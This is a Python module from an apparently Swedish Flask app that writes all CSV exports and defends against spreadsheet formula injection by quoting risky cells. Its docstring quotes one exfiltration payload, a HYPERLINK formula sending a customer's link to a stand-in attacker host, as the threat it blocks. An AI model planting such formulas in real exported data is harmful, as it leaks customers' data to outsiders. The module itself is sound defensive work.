"""Every spreadsheet Kundröst writes is written here: CSV now, XLSX later.

Spreadsheet programs (Excel, LibreOffice Calc, Google Sheets) run a cell
that begins with `=`, `+`, `-` or `@` as a formula: a provider named
`=HYPERLINK("http://evil.example/?d="&A2,"Öppna")` becomes a link that sends
the next cell - a customer's single-use link - to someone else. Following
OWASP's guidance on CSV injection
(https://owasp.org/www-community/attacks/CSV_Injection), every text cell
that could start a formula is written with a single quote (`'`) in front, so
it is shown as the text it is, quote included. Numbers are written as
numbers.

A cell is neutralised when it begins with a tab or a carriage return, or when
its first character that is not white space or an invisible one (Unicode
categories Z* and C*: spaces, line breaks, zero-width and direction marks)
is one of `= + - @`, their full-width forms `＝ ＋ － ＠`, the small forms
`﹦ ﹢ ﹣` or the minus sign `−` (which some locales' programs read as the
plain ones). So ` =1+1` and `\\u200b=1+1` are neutralised too: what a
program skips before deciding must not hide a formula. The same holds for
each piece after a `;` or `,` ("Evil AB;=1+1"), where a program that
splits on its list separator - `;` in Swedish Excel - would start a cell;
and every text field is quoted, so that a program that respects quotes
never splits inside one.

Every export uses this module - `csv_response` for a CSV download; an XLSX
writer belongs here too and must pass every text cell through `safe_cell`
(openpyxl, for one, stores any str beginning with `=` as a formula).
tests/test_spreadsheets.py fails if another module in app/ imports a
spreadsheet writer (csv, openpyxl, xlsxwriter, ...) or sends a spreadsheet
content type itself.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal

from flask import Response

#: Characters that make a spreadsheet program read a cell as a formula:
#: the ASCII signs, their full-width and small forms, and the minus sign.
FORMULA_STARTS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\u2212")
#: Where a program that splits on its own list separator (";" in Swedish
#: Excel, "," elsewhere) and ignores quotes would start a new cell.
SEPARATORS = re.compile("[;,]")
#: Characters that OWASP lists as dangerous in the very first position.
FIRST_CHARACTER_STARTS = frozenset("\t\r")
#: What a cell is given in front when it could start a formula.
NEUTRALISING_PREFIX = "'"

#: What a cell may hold: text, a number, a date, or nothing.
Cell = str | int | float | Decimal | date | datetime | None

CSV_MIMETYPE = "text/csv"


def _is_skipped(character: str) -> bool:
    # White space and invisible characters a program may pass over before the formula sign.
    return character.isspace() or unicodedata.category(character)[0] in "ZC"


def could_start_formula(text: str) -> bool:
    """Whether a spreadsheet program might read `text`, or a piece of it, as a formula.

    The cell's start, and also the start of every piece after a ";" or ","
    ("Evil AB;=1+1"): a program that splits the line on its own list
    separator would begin a cell there.
    """
    if text[:1] in FIRST_CHARACTER_STARTS:
        return True
    return any(_piece_starts_formula(piece) for piece in SEPARATORS.split(text))


def _piece_starts_formula(piece: str) -> bool:
    for character in piece:
        if not _is_skipped(character):
            return character in FORMULA_STARTS
    return False


def safe_cell(value: Cell) -> str | int | float | Decimal:
    """The value as it may go into a spreadsheet cell.

    Text that could start a formula gets NEUTRALISING_PREFIX (`'`) in front;
    other text is returned unchanged. Numbers (not bool) are returned as
    they are: a number is never a formula. Dates become ISO 8601 text
    (`2026-11-30`), None an empty cell. Anything else raises TypeError, so
    that no value reaches a spreadsheet without passing this check.
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        raise TypeError("a bool is not a spreadsheet cell: write the text the reader should see")
    if isinstance(value, (int, float, Decimal)):
        return value
    if isinstance(value, (date, datetime)):
        return value.isoformat()
    if isinstance(value, str):
        return NEUTRALISING_PREFIX + value if could_start_formula(value) else value
    raise TypeError(f"{type(value).__name__} is not a spreadsheet cell")


def csv_text(rows: Iterable[Sequence[Cell]]) -> str:
    """The rows (the first one usually the header) as CSV text, every cell through `safe_cell`.

    Comma-separated, every text field quoted (Python's csv module, Excel
    dialect, QUOTE_NONNUMERIC: a ";" inside a name never splits the cell in
    a program whose list separator it is; numbers stay numbers), CR LF line
    ends, beginning with a byte order mark so that Excel reads the file as
    UTF-8 (Å, Ä, Ö, Arabic script, Ethiopic).
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, quoting=csv.QUOTE_NONNUMERIC)
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    return "\ufeff" + buffer.getvalue()


def csv_response(filename: str, rows: Iterable[Sequence[Cell]]) -> Response:
    """A CSV download of `rows` (see `csv_text`) named `filename`, never cached (Cache-Control: no-store).

    `filename` must be plain ASCII without quotes (the caller builds it from
    ids); a ValueError says otherwise.
    """
    if not filename.isascii() or any(c in filename for c in '"\\\r\n/'):
        raise ValueError(f"unsafe download name {filename!r}")
    return Response(
        csv_text(rows),
        mimetype=CSV_MIMETYPE,
        headers={"Content-Disposition": f'attachment; filename="{filename}"', "Cache-Control": "no-store"},
    )
